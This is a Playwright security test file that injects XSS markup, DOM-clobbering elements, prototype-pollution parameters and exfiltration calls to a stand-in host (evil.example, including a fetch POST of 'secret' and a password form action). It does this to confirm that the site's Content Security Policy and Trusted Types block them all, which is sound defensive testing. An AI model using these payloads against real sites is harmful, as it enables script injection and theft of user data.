import type { Page, Route } from "@playwright/test";
import { allowError, collect, expect, hydrated, siteOrigin, test } from "./fixtures";

/** The attacker's origin. It responds to every request with malicious code. */
const evil = "https://evil.example";

/** Chromium's console errors for everything that the policy blocks. */
const stopped =
	/Content Security [Pp]olicy|requires 'Trusted\w+' assignment|violates the following|Failed to (execute|construct|load resource)|Framing '|ERR_BLOCKED_BY_(CSP|RESPONSE)/;

/** Injected markup, and the directive that blocks each piece. */
const markup: Record<string, string> = {
	"<script>hacked('inline script')</script>": "script-src-elem inline",
	[`<script src="${evil}/a.js"></script>`]: `script-src-elem ${evil}/a.js`,
	"<img src='/favicon.svg' onload=hacked('handler')>": "script-src-attr inline",
	"<p style='position:fixed;inset:0'>style attribute</p>": "style-src-attr inline",
	"<style>body{display:none}</style>": "style-src-elem inline",
	[`<link rel="stylesheet" href="${evil}/a.css">`]: `style-src-elem ${evil}/a.css`,
	[`<base href="${evil}/">`]: `base-uri ${evil}/`,
	[`<img src="${evil}/pixel.png">`]: `img-src ${evil}/pixel.png`,
	[`<iframe src="${evil}/frame"></iframe>`]: `frame-src ${evil}`,
	[`<object data="${evil}/object"></object>`]: `object-src ${evil}`,
	// The script below clicks and submits these two.
	"<a id='attack-link' href=\"javascript:hacked('link')\">link</a>": "script-src-elem inline",
	[`<form id='attack-form' method="post" action="${evil}/form"><input name="password"></form>`]: `form-action ${evil}/form`,
};

/** Attacks by a script from the site's own origin, one for each rule of the policy, and what blocks each. */
const doings: Record<string, string> = {
	"eval(\"hacked('eval')\")": "require-trusted-types-for eval",
	[`import("${evil}/import.js")`]: `script-src-elem ${evil}/import.js`,
	[`document.createElement('script').src = "${evil}/src.js"`]:
		"require-trusted-types-for HTMLScriptElement src",
	"document.createElement('p').innerHTML = \"<img src=x onerror=hacked('innerHTML')>\"":
		"require-trusted-types-for Element innerHTML",
	"trustedTypes.createPolicy('own', {})": "trusted-types trusted-types-policy",
	[`fetch("${evil}/fetch", { method: "POST", mode: "no-cors", body: "secret" })`]: `connect-src ${evil}/fetch`,
	"document.getElementById('attack-link').click()": "script-src-elem inline",
	"document.getElementById('attack-form').submit()": `form-action ${evil}/form`,
};

/** Properties of window. An element with such an id or name defines it unless it already exists. */
const globals = `localStorage sessionStorage document location history navigator self top theme
	config firebase gapi process module exports main email mode hacked __reactContainer trustedTypes
	FIREBASE_APPCHECK_DEBUG_TOKEN __FIREBASE_DEFAULTS__`.split(/\s+/);
const clobbering = globals.map(
	(name) =>
		`<a id="${name}" href="${evil}/${name}"></a>` +
		`<form name="${name}"><input name="classList"><input name="content"></form>`,
);

/** Query parameters that cause prototype pollution in careless parsers. */
const pollution =
	"__proto__[polluted]=1&__proto__.polluted=1&constructor[prototype][polluted]=1&constructor.prototype.polluted=1";

/** The visitor has chosen the dark theme before. */
const chosen = [{ name: "theme", value: "dark" }];
test.use({
	storageState: { cookies: [], origins: [{ origin: siteOrigin, localStorage: chosen }] },
});

/** Answers the attacker's origin with malicious code. Returns what has reached it. */
async function attackerOf(page: Page): Promise<string[]> {
	const reached: string[] = [];
	await page.context().route(
		(url) => url.hostname.endsWith("evil.example"),
		(route) => {
			reached.push(route.request().url());
			return route.fulfill({
				contentType: "text/javascript",
				headers: { "access-control-allow-origin": "*" },
				body: "hacked('another origin')",
			});
		},
	);
	return reached;
}

for (const path of ["/contact", "/get-started"]) {
	test(`${path}: injected markup and scripts can't run code, change the page or send data`, async ({
		page,
	}) => {
		allowError(stopped);
		const reached = await attackerOf(page);
		const ran = await collect<string>(page, (note) => Object.assign(window, { hacked: note }));
		const violations = await collect<string>(page, (note) =>
			addEventListener("securitypolicyviolation", (event) => {
				const untrusted = event.blockedURI === "trusted-types-sink";
				const what = untrusted ? event.sample.split("|")[0] : event.blockedURI;
				note(`${event.effectiveDirective} ${what}`);
			}),
		);
		const attack = Object.keys(doings)
			// Each attack alone: what one throws or rejects with doesn't stop the next.
			.map((doing) => `try { Promise.resolve(${doing}).catch(() => {}); } catch {}`)
			.join("\n");
		await page.route("**/attack.js", (route) =>
			route.fulfill({
				contentType: "text/javascript",
				// In a task of its own, because eval isn't blocked in a task of Playwright's.
				body: `addEventListener("attack", () => setTimeout(() => { ${attack} }));`,
			}),
		);
		// A script of the site's own origin can only come with the markup.
		const injected = [...clobbering, "<script src='/attack.js'></script>", ...Object.keys(markup)];
		async function inject(route: Route): Promise<void> {
			const response = await route.fetch();
			const html = await response.text();
			await route.fulfill({
				response,
				body: html.replace("<body>", () => `<body>${injected.join("")}`),
			});
		}
		await page.route((url) => url.pathname === path, inject);
		await page.goto(`${path}?${pollution}#${pollution}`, { waitUntil: "domcontentloaded" });
		await hydrated(page);
		// The sign-in page makes its Trusted Types policy once it's used.
		if (path === "/get-started") {
			await page.keyboard.press("Shift");
			await page.waitForFunction(
				() => "trustedTypes" in window && Reflect.get(Object(window.trustedTypes), "defaultPolicy"),
			);
		}
		await page.evaluate(() => dispatchEvent(new Event("attack")));

		const expected = [...Object.values(markup), ...Object.values(doings)];
		await expect
			.poll(async () => {
				const seen = await violations();
				return expected.filter((violation) => !seen.includes(violation));
			})
			.toEqual([]);
		expect(await ran()).toEqual([]);
		expect(reached).toEqual([]);
		// A single evaluate, because Playwright's locators would wait for the blocked form's navigation.
		expect(
			await page.evaluate(() => ({
				address: location.href,
				own: Object.keys(Object.prototype),
				link: document.querySelector<HTMLAnchorElement>("a[href='/']")?.href,
				shown: getComputedStyle(document.body).display !== "none",
				dark: document.documentElement.classList.contains("dark"),
				stored:
					document.querySelector<HTMLElement>(".theme-toggle")?.click() ??
					localStorage.getItem("theme"),
			})),
		).toEqual({
			address: `${siteOrigin}${path}?${pollution}#${pollution}`,
			own: [],
			link: `${siteOrigin}/`,
			shown: true,
			dark: true,
			stored: "light",
		});
	});
}
